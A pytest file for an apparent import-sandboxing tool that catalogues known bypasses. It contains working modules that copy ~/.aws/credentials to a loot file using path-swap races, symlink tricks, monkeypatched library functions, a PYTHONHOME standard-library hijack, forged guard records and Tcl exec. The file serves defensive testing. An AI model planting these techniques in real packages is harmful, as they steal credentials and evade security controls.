"""What a review found and this version can't stop: each reaches its target unguarded and, named in the limits, guarded."""

import importlib.util
from dataclasses import dataclass

import pytest
from support import envs, guarded, wheels, worlds

CALLED = "import acme_known.{0}\nacme_known.{0}.run()\n"
HEAD = """
import os, sys
HOME, TMP = os.path.expanduser("~"), os.environ["TMPDIR"]
AWS, LOOT = HOME + "/.aws/credentials", TMP + "/loot"
PORT = int(os.environ["SINK"].rpartition(":")[2])
assert os.path.exists(HOME + "/.canary-home")
COPY = "import shutil; shutil.copyfile(%r, %r)" % (AWS, LOOT)
"""
NO_LOOPBACK = 'version = 1\nextends = "recommended"\n[run]\ndeny = ["net.connect:127.0.0.0/8"]\n'


@dataclass(frozen=True, slots=True)
class Bypass:
    """What a module does when it is imported (or `run()` in it is called), and the fact that shows that it came through."""

    source: str
    shows: str = "kept:aws"
    app: str = "import acme_known.{0}\n"
    policy: str | None = None


BYPASSES = {
    "path_that_changes_its_mind": Bypass(
        """
import io
class Path:
    asked = 0
    def __fspath__(self):
        self.asked += 1
        return AWS if self.asked == 1 else "/etc/hostname"

with io.FileIO(Path()) as secret, open(LOOT, "wb") as loot:
    loot.write(secret.readall())
"""
    ),
    "link_that_comes_between": Bypass(
        """
place = TMP + "/place"
os.mkdir(place)
open(place + "/credentials", "w").close()
def hook(event, arguments):
    if event == "open" and arguments[0] == place + "/credentials" and not os.path.islink(place):
        os.rename(place, place + "2")
        os.symlink(HOME + "/.aws", place)

sys.addaudithook(hook)
with open(place + "/credentials") as secret, open(LOOT, "w") as loot:
    loot.write(secret.read())
"""
    ),
    "folder_of_a_secret_under_another_name": Bypass(
        "import shutil\nos.rename(HOME + '/.aws', TMP + '/plain')\nshutil.copyfile(TMP + '/plain/credentials', LOOT)"
    ),
    "library_function_put_in_anothers_place": Bypass(
        "import functools, json, shutil\njson.loads = functools.partial(shutil.copyfile, AWS, LOOT)",
        app="import acme_known.{0}\nimport json\njson.loads()\n",
    ),
    "standard_library_of_somebody_elses": Bypass(
        """
import shutil, subprocess
THEFT = f"import posix; posix.write(posix.open({LOOT!r}, 65, 0o600), posix.read(posix.open({AWS!r}, 0), 4096))"
def run():
    real = os.path.dirname(os.__file__)
    lib = TMP + "/lib/" + os.path.basename(real)
    os.makedirs(lib)
    for name in os.listdir(real):
        if name != "encodings":
            os.symlink(f"{real}/{name}", f"{lib}/{name}")
    shutil.copytree(real + "/encodings", lib + "/encodings")
    with open(lib + "/encodings/__init__.py", "a") as file:
        file.write(THEFT)
    subprocess.run([sys.executable, "-c", "pass"], env={**os.environ, "PYTHONHOME": TMP})
""",
        app=CALLED,
    ),
    "records_written_by_a_package": Bypass(
        """
import glob, json, time
def run():
    record = {"v": 1, "id": "0", "time": "2026-01-01T00:00:00.000000Z", "event": "decision", "pid": 1, "verdict": "kill",
              "capability": "net.connect", "target": "nowhere:1", "owner": {"name": "acme-other", "version": "", "kind": "distribution"},
              "phase": "run"}
    for session in glob.glob(TMP + "/importguard-*/*") or [TMP]:
        folder = os.open(session, os.O_RDONLY | os.O_DIRECTORY)
        pipe = os.open("records", os.O_WRONLY | os.O_CREAT, dir_fd=folder)
        os.write(pipe, json.dumps(record).encode() + b"\\n")
    open(TMP + "/wrote-records", "w").close()
""",
        "wrote:tmp/wrote-records",
        CALLED,
    ),
    "name_that_leads_to_a_refused_address": Bypass(
        "import socket\n\ndef run():\n    with socket.socket() as connection:\n        connection.connect(('localhost', PORT))\n"
        "        connection.sendall(b'GET /home HTTP/1.0\\r\\n\\r\\n')\n        connection.recv(64)",
        "GET:/home",
        CALLED,
        NO_LOOPBACK,
    ),
}
if importlib.util.find_spec("_tkinter"):
    BYPASSES["program_that_tcl_starts"] = Bypass("import tkinter\ntkinter.Tcl().eval('exec cp %s %s' % (AWS, LOOT))")


@pytest.fixture(scope="session")
def known(tmp_path_factory, empty_environment):
    """An environment with one distribution that has a module for each bypass."""
    folder = tmp_path_factory.mktemp("known")
    environment = envs.copy(empty_environment, folder / "env")
    modules = {f"acme_known/{name}.py": HEAD + bypass.source + "\n" for name, bypass in BYPASSES.items()}
    envs.install(
        environment, wheels.Wheel("acme-known", "1.0", {"acme_known/__init__.py": "", **modules}), folder=folder
    )
    return environment


@pytest.fixture
def perform(tmp_path, known):
    """A function that runs a bypass in a world of its own and returns what came of it."""

    def perform(name, mode):
        bypass = BYPASSES[name]
        with worlds.furnished(tmp_path, known) as world:
            (world.project / "app.py").write_text(bypass.app.format(name))
            outcome = guarded.run(world, [known.python, "app.py"], mode=mode, policy=bypass.policy)
            return outcome, world.evidence()

    return perform


@pytest.mark.parametrize("name", BYPASSES)
def test_bypass_is_one_that_works_without_the_guard(name, perform):
    """The control: unguarded, it reaches its target."""
    outcome, evidence = perform(name, guarded.UNGUARDED)

    assert BYPASSES[name].shows in evidence, outcome.story()


@pytest.mark.xfail(reason="docs/explanation/limits.md", raises=AssertionError, strict=True)
@pytest.mark.parametrize("name", BYPASSES)
def test_bypass_is_closed(name, perform):
    """Under the recommended preset, or the bypass's own policy, it doesn't."""
    outcome, evidence = perform(name, guarded.RECOMMENDED)

    if not any(record["event"] == "armed" for record in outcome.records):
        pytest.fail("the run was not guarded: " + outcome.story(), pytrace=False)
    assert BYPASSES[name].shows not in evidence, outcome.story()
